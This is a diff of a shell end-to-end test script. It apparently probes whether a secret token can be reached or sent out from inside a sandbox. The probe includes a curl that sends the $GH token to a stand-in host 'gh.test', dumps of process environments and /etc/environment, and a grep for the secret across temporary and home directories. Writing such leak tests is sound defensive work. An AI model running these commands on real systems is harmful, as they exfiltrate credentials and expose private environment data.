@@ -11,7 +11,7 @@ cat >"$E2E/try" <<-'EOF2'
 	curl -sS --max-time 5 "http://gh.test/?t=$GH"
 	env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'
 	cat /etc/environment /proc/1/root/proc/*/environ 2>/dev/null | tr '\0' '\n'
-	grep -ra 0123456789abcdefghijklmnopqrstuvwxyzAB /run /tmp /dev/shm "$HOME" 2>/dev/null
+	grep -ra 0123456789abcdefghijklmnopqrst"u"vwxyzAB /run /tmp /dev/shm "$HOME" 2>/dev/null
 	echo reached
 EOF2
 inside bash -c "$(cat "$E2E/try")" >"$E2E/out" 2>&1 || true
